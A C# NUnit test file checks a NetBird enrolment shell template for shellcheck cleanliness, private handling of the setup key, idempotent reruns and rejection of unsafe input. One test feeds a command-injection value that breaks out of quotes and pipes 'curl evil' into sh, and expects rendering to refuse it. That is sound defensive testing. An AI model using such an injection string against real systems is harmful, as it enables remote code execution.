using System.Runtime.Versioning;
using Boma.Infra.Hosts;
using Boma.Infra.Tests.HostFiles;
using NUnit.Framework;

namespace Boma.Infra.Tests.Cluster;

[TestFixture]
[SupportedOSPlatform("linux")] // Host scripts and their tools only exist on Linux.
public sealed class NetbirdEnrolScriptTests
{
    private const string Template = "cluster/netbird-enrol.sh.tmpl";

    // Shaped like a NetBird setup key; not a real one.
    private const string SetupKey = "A1B2C3D4-E5F6-4711-8899-AABBCCDDEEFF";

    private static readonly Dictionary<string, string> Values = new()
    {
        ["management_url"] = "https://netbird.askari.example.net",
        ["peer_name"] = "mlinzi1",
        ["setup_key"] = SetupKey,
    };

    private ScriptSandbox _sandbox = null!;

    [SetUp]
    public void CreateSandbox()
    {
        _sandbox = new ScriptSandbox();
        foreach (var tool in new[] { "netbird", "gpg", "curl" })
        {
            var stub = Path.Combine(AppContext.BaseDirectory, "Cluster", "stubs", tool);
            File.SetUnixFileMode(stub, File.GetUnixFileMode(stub) | UnixFileMode.UserExecute);
            File.CreateSymbolicLink(Path.Combine(_sandbox.StubBin, tool), stub);
        }
    }

    [TearDown]
    public void RemoveSandbox() => _sandbox.Dispose();

    [Test]
    // Severity warning and up: the library's literal dpkg-query format string is an info-level false positive (SC2016).
    public void ShellcheckAcceptsTheRenderedScript()
    {
        var file = Path.Combine(_sandbox.Dir, "netbird-enrol.sh");
        File.WriteAllText(file, HostTemplates.Render(Template, Values));

        var result = HostTool.Run(HostTool.Require("shellcheck", "shellcheck"), ["-s", "bash", "-S", "warning", file]);

        Assert.That(result.ExitCode, Is.Zero, result.ToString());
    }

    [Test]
    public void AFreshVmIsEnrolledWithTheKeyInAPrivateFileNeverInArgv()
    {
        var run = _sandbox.Run(Template, Values);

        Assert.That(run.Result.ExitCode, Is.Zero, run.ToString());
        var up = run.Calls.Single(c => c.StartsWith("netbird up ", StringComparison.Ordinal));
        Assert.That(up, Does.StartWith("netbird up --management-url https://netbird.askari.example.net --setup-key-file "));
        Assert.That(up, Does.EndWith(" --hostname mlinzi1"));
        Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key")), Is.EqualTo(SetupKey + "\n"));
        Assert.That(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key-mode")).Trim(), Is.EqualTo("600"));
        Assert.That(File.Exists(File.ReadAllText(Path.Combine(_sandbox.State, "netbird-key-path")).Trim()), Is.False,
            "the key file is removed when the script ends");
        Assert.That(run.Calls, Has.None.Contains(SetupKey));
        Assert.That(run.Result.Stdout + run.Result.Stderr, Does.Not.Contain(SetupKey));
        Assert.That(_sandbox.ReadFile("/etc/apt/sources.list.d/netbird.list"),
            Is.EqualTo("deb [signed-by=/usr/share/keyrings/netbird-archive-keyring.gpg] https://pkgs.netbird.io/debian stable main\n"));
        Assert.That(run.Calls, Has.Some.EqualTo("apt-get install -y -qq -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold netbird"));
        Assert.That(run.Lines[^1], Does.StartWith("summary: ").And.Not.EqualTo("summary: 0 changed"));
        Assert.That(_sandbox.ReadFile("/usr/share/keyrings/netbird-archive-keyring.gpg"), Does.Contain("PGP PUBLIC KEY"));
    }

    [Test]
    public void ASecondRunChangesNothingAndDoesNotEnrolAgain()
    {
        Assert.That(_sandbox.Run(Template, Values).Result.ExitCode, Is.Zero);
        var before = _sandbox.Snapshot();

        var second = _sandbox.Run(Template, Values);

        Assert.That(second.Result.ExitCode, Is.Zero, second.ToString());
        Assert.That(second.Calls, Has.None.StartsWith("netbird up"));
        Assert.That(second.Changed, Is.Empty, second.ToString());
        Assert.That(second.Lines[^1], Is.EqualTo("summary: 0 changed"));
        Assert.That(_sandbox.Snapshot(), Is.EqualTo(before));
    }

    [Test]
    public void AKeyThatCouldBreakOutOfTheQuotesIsRefused()
    {
        var bad = new Dictionary<string, string>(Values) { ["setup_key"] = "abcdefgh'; curl evil | sh; '" };

        Assert.Throws<ArgumentException>(() => HostTemplates.Render(Template, bad));
    }
}
